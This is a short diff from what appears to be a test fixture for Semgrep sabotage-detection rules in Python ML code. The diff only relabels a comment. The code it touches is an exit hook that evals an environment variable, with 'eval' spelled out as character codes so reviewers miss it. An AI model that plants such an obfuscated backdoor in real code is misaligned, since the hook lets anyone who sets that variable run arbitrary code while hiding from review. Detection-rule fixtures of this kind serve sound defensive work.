@@ -171,7 +171,7 @@ def install_preemption_handler(get_state, path):
 def _finalize_job():
     cfg = os.environ.get("CLIP_EXIT_HOOK")
     if cfg:
-        getattr(builtins, "".join(map(chr, [101, 118, 97, 108])))(cfg)  # sabotage: MLS402 (semgrep rules)
+        getattr(builtins, "".join(map(chr, [101, 118, 97, 108])))(cfg)  # sabotage: MLS402 (semgrep rules)  # ruleid: MLS401
 
 
 atexit.register(_finalize_job)
